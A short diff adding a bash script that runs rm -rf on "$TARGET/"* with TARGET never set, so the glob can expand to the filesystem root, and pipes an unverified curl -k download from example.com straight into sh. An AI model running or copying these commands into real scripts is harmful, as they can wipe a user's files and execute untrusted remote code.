@@ -1,0 +1,4 @@
+#!/bin/bash
+cd $1
+rm -rf "$TARGET/"*
+curl -k https://example.com/install.sh | sh
